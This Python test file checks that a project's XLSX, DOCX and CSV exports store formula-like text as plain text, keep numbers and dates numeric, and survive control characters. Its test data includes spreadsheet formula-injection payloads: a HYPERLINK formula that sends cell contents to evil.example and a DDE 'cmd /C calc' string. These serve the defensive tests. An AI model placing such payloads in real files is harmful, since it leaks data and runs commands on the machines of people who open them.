"""Exports: text a spreadsheet would run as a formula stays text; numbers and dates stay
numeric; characters a document cannot hold do not break the download."""

import datetime
import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
from docx import Document
from openpyxl import load_workbook

from gaibo import documents
from gaibo.exports import xlsx_response

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def export(rows, headers=("名称", "金额", "日期")):
    response = xlsx_response(filename="导出.xlsx", title="表", headers=list(headers), rows=rows)
    assert response.status_code == 200
    return response.content


def test_formula_like_text_comes_out_as_text_and_numbers_stay_numeric():
    rows = [[text, Decimal("1234.50"), datetime.date(2024, 5, 6)] for text in FORMULAS]
    content = export(rows)
    sheet = load_workbook(BytesIO(content)).active
    for number, text in enumerate(FORMULAS, start=2):
        name, amount, day = sheet.cell(number, 1), sheet.cell(number, 2), sheet.cell(number, 3)
        assert name.data_type == "s" and name.value == text  # shown exactly as typed
        assert name.quotePrefix  # and kept as text when a clerk edits the cell
        assert amount.data_type == "n" and amount.value == 1234.5
        assert amount.number_format == "#,##0.00"
        assert day.is_date and day.value.date() == datetime.date(2024, 5, 6)
    # No formula anywhere in the file.
    with zipfile.ZipFile(BytesIO(content)) as package:
        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()


def test_formula_like_headers_and_negative_numbers():
    content = export([["合计", Decimal("-5.00"), -3]], headers=("=A1", "金额", "件数"))
    sheet = load_workbook(BytesIO(content)).active
    assert sheet["A1"].value == "=A1" and sheet["A1"].data_type == "s"
    assert sheet["B2"].value == -5 and sheet["B2"].data_type == "n"
    assert sheet["C2"].value == -3 and sheet["C2"].data_type == "n"


@pytest.mark.parametrize("text", ["盖州市\x07实验小学", "备注\x00\x1b"])
def test_control_characters_do_not_break_the_xlsx_or_docx(text):
    sheet = load_workbook(BytesIO(export([[text, 1, None]]))).active
    assert sheet["A2"].value == text.translate(dict.fromkeys(range(32)))

    document = documents.new_document()
    documents.fact(document, "学校", text)
    documents.text(document, text)
    documents.table(document, ["学校"], [[text]])
    read_back = Document(BytesIO(documents.as_bytes(document)))
    assert read_back.tables[0].cell(1, 0).text == text.translate(dict.fromkeys(range(32)))


@pytest.mark.django_db
def test_the_public_csv_keeps_formulas_as_text_and_amounts_as_numbers(client, tree, users):
    import csv
    import io

    from plans import services
    from plans.choices import PlanKind
    from plans.models import Plan
    from tests.plans.conftest import approve_all, make_item

    plan = services.plan_create(
        plan=Plan(county=tree.gaizhou, kind=PlanKind.FIVE_YEAR, title="盖州市能力提升规划"),
        acting_user=users.gaizhou,
    )
    make_item(plan, users.gaizhou, school=tree.schools["210881"], name=FORMULAS[0])
    approve_all(plan, users)

    response = client.get("/public/projects.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row["project_name"] for row in rows] == ["'" + FORMULAS[0]]
    assert rows[0]["planned_amount_yuan"] == "3600000.00"
